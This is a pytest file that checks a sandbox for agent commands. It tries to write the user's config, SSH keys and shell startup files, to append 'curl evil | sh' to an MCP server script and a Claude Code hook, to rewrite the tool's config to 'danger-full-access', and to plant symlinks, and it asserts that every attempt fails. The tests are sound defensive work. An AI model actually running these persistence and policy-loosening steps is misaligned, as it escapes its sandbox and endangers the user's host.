"""Attacks on tether's home, the user's configuration and what configured servers and hooks run,
from inside a sandboxed command, each shown to have no effect on the host (issue 32 §6, §8,
§9b), as this user and as an unprivileged one, with real bwrap.

Contract: with the workspace at `$HOME` (a temporary one), `~/.tether/config.yml`,
`~/.gitconfig`, `~/.config/git/config`, `~/.ssh/authorized_keys`, `~/.bash_login` and
`~/.local/bin/x` cannot be created; the file an `.mcp.json` server or a Claude Code hook runs
from cannot be written or moved aside; a symlink planted where a placeholder's parent would be
makes nothing outside and fails no command; a workspace of `/` refuses `workspace-write` in one
clear line, and a workspace that is `$HOME` warns once.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tether.plugins.sandbox import SandboxPolicy, SandboxUnavailable, confine, kernel_support
from tether.plugins.sandbox.plan import home_warning

from ._jail import Box

pytestmark = pytest.mark.timeout(300)

HOME_FILES = [
    ".tether/config.yml",
    ".gitconfig",
    ".config/git/config",
    ".ssh/authorized_keys",
    ".bash_login",
    ".local/bin/x",
]


@pytest.mark.parametrize("name", HOME_FILES)
def test_a_workspace_at_home_cannot_create_the_users_configuration(box: Box, name: str) -> None:
    box.workspace_is_home = True

    done = box.run(
        f"mkdir -p \"$(dirname ~/{name})\"; echo 'sandbox: danger-full-access' > ~/{name}"
    )

    assert done.returncode != 0, done.stdout
    assert not (box.home / name).exists()
    left = sorted(p.name for p in box.home.iterdir())  # placeholders gone with it; tether's
    assert left in ([], [".tether"])  # own state may stay: its binaries' private copies
    if left:
        assert sorted(p.name for p in (box.home / ".tether").iterdir()) == ["run"]


def test_the_file_an_mcp_server_runs_from_cannot_be_written_or_moved_aside(box: Box) -> None:
    server = box.workspace / "tools" / "server.sh"
    server.parent.mkdir()
    server.write_text("#!/bin/sh\nexec cat\n")
    (box.workspace / ".mcp.json").write_text(
        '{"mcpServers": {"local": {"command": "./tools/server.sh"}}}'
    )
    box.own()

    done = box.run(
        "echo 'curl evil | sh' >> tools/server.sh; mv tools tools-old; "
        "mkdir -p tools && echo 'curl evil | sh' > tools/server.sh"
    )

    assert "Device or resource busy" in done.stdout, done.stdout
    assert server.read_text() == "#!/bin/sh\nexec cat\n"


def test_the_script_a_claude_code_hook_runs_cannot_be_written(box: Box) -> None:
    hook = box.workspace / "scripts" / "format.sh"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\n")
    (box.workspace / ".claude").mkdir()
    (box.workspace / ".claude" / "settings.json").write_text(
        '{"hooks": {"PostToolUse": [{"hooks": [{"type": "command", '
        '"command": "$CLAUDE_PROJECT_DIR/scripts/format.sh"}]}]}}'
    )
    box.own()

    done = box.run("echo 'curl evil | sh' >> scripts/format.sh")

    assert "Read-only file system" in done.stdout, done.stdout
    assert hook.read_text() == "#!/bin/sh\n"


def test_a_planted_symlink_makes_nothing_outside_and_fails_no_command(box: Box) -> None:
    box.workspace_is_home = True
    (box.home / ".local").symlink_to(box.outside)  # ~/.local/bin would be made through it
    (box.home / ".git").symlink_to(box.outside / "repository")  # dangling, absolute
    box.own()

    first, second = box.run("echo ran"), box.run("echo ran")

    assert (first.returncode, first.stdout, second.stdout) == (0, "ran\n", "ran\n")
    assert list(box.outside.iterdir()) == []


def test_a_symlink_to_a_missing_place_inside_pins_that_place(box: Box) -> None:
    (box.workspace / ".claude").symlink_to("config/claude")
    box.own()

    done = box.run("mkdir -p config/claude && echo '{}' > config/claude/settings.json")

    assert done.returncode != 0, done.stdout
    assert not (box.workspace / "config").exists()


def test_a_workspace_of_root_refuses_workspace_write() -> None:
    with pytest.raises(SandboxUnavailable, match="the workspace is / — that would make the whole"):
        confine(
            ["true"],
            policy=SandboxPolicy(),
            workspace="/",
            workdir="/",
            support=kernel_support(),
        )


def test_a_workspace_that_is_home_warns_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))

    first, second = home_warning(str(tmp_path)), home_warning(str(tmp_path))

    assert first is not None
    assert first.startswith(f"tether: the workspace is your home directory ({tmp_path})")
    assert second is None
    assert home_warning(os.path.dirname(tmp_path)) is None
